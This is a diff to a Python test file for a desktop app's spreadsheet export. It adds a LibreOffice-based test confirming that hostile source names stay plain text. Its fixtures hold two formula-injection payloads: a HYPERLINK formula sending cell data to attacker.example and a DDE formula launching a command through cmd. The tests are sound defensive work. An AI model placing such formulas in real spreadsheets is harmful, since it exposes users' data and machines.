@@ -19,6 +19,7 @@ from desktop.cli import main
 from desktop.core.export.cells import web_url
 from desktop.core.service import Service
 from tests.conftest import DATA, SEEDS
+from tests.core.test_export import ALL_SHEETS_AS_SHOWN, libreoffice
 
 LINK = '=HYPERLINK("https://attacker.example/?x="&B2,"Verified source")'
 DDE = "=cmd|' /C calc'!A0"
@@ -73,7 +74,7 @@ def hostile(tmp_path: Path, db_path: Path) -> Iterator[Service]:
 def test_hostile_outlets_titles_and_notes_stay_text(hostile: Service, tmp_path: Path) -> None:
     sources = {a.source for a in hostile.articles()}
     assert {LINK, "=40+2", "-2+3"} <= sources  # the readers kept them: the test bites
-    book = load_workbook(hostile.export(tmp_path / "claims.xlsx"))
+    book = load_workbook(hostile.export(tmp_path / "claims.xlsx").path)
     texts: set[str] = set()
     for sheet in book.worksheets:
         for row in sheet.iter_rows():
@@ -97,7 +98,7 @@ def test_links_are_url_text_that_every_reader_sees(service: Service, tmp_path: P
                             "fingerprint, imported_at) SELECT source_id, 'long', :u, 'x', body, "
                             "'', imported_at FROM article"), {"u": long_url})
     service.add_span(2, 0, 40, None)
-    path = service.export(tmp_path / "links.xlsx")
+    path = service.export(tmp_path / "links.xlsx").path
     url = "https://koreajoongangdaily.example/2025/06/05/kim-russia"
     values = load_workbook(path, data_only=True)
     articles = {r[0]: r[4] for r in values["Articles"].iter_rows(min_row=2, values_only=True)}
@@ -119,8 +120,27 @@ def test_files_get_the_permissions_the_umask_allows(seeded: Service, tmp_path: P
     previous = os.umask(umask)
     try:
         for name in ("claims.xlsx", "claims.csv", "claims.json", "new.xlsx"):
-            written = seeded.export(tmp_path / name)
+            written = seeded.export(tmp_path / name).path
             assert stat.S_IMODE(written.stat().st_mode) == mode, name
     finally:
         os.umask(previous)
     assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
+
+
+def test_libreoffice_shows_hostile_outlets_as_text(hostile: Service, tmp_path: Path) -> None:
+    path = hostile.export(tmp_path / "claims.xlsx").path
+    files = {p.name: p for p in libreoffice(path, tmp_path, ALL_SHEETS_AS_SHOWN)}
+
+    def rows(sheet: str) -> list[list[str]]:
+        text = files[f"claims-{sheet}.csv"].read_text(encoding="utf-8")
+        return list(csv.reader(text.splitlines()))
+
+    mentions = rows("Mentions")
+    outlets = {
+        "Sources x Claims header": set(rows("Sources x Claims")[0]),
+        "Summary's first column": {r[0] for r in rows("Summary") if r},
+        "Mentions' Source column": {r[mentions[0].index("Source")] for r in mentions[1:]},
+    }
+    for where, cells in outlets.items():
+        assert {"=40+2", LINK, "-2+3"} <= cells, where
+        assert not {"42", "1", "Verified source"} & cells, where
